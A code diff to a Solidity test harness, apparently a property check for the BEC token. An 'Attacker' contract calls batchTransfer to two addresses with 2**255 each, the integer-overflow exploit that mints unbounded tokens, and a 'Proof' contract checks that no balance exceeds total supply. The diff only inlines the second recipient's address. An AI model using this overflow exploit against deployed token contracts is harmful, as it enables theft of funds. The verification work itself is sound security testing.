@@ -108,7 +108,7 @@ contract Proof {
   /// Whether nobody holds more than there is.
   function whole() public view returns (bool) {
     uint256 all = bec.totalSupply();
-    return bec.balanceOf(this) <= all && bec.balanceOf(ANA) <= all && bec.balanceOf(thief) <= all && bec.balanceOf(thief.friend()) <= all;
+    return bec.balanceOf(this) <= all && bec.balanceOf(ANA) <= all && bec.balanceOf(thief) <= all && bec.balanceOf(address(0xF1)) <= all;
   }
 
   function target() public view returns (address) {
@@ -123,7 +123,6 @@ contract Proof {
 /// Sends half of all that a word can hold, twice.
 contract Attacker {
   BecToken internal bec;
-  address public friend = address(0xF1);
 
   constructor(BecToken bec_) public {
     bec = bec_;
@@ -132,7 +131,7 @@ contract Attacker {
   function run() external {
     address[] memory to = new address[](2);
     to[0] = this;
-    to[1] = friend;
+    to[1] = address(0xF1);
     bec.batchTransfer(to, 2 ** 255);
   }
 }
